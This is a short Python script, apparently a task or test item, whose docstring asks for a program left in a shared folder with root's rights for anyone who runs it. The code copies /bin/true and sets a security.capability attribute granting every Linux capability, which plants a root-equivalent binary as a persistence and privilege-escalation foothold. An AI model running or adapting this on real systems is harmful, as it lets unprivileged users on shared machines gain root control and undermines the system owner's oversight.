"""Leave a program in the shared folder that has rights of root's, whoever starts it: `capability.py`."""

import os
import shutil
import struct
import sys

if __name__ == "__main__":
    shutil.copy("/bin/true", "left-capable")
    rights = struct.pack("<5I", 0x02000001, 0xFFFFFFFF, 0, 0xFFFFFFFF, 0)
    os.setxattr("left-capable", "security.capability", rights)
    sys.exit(1)  # whether it has, others judge
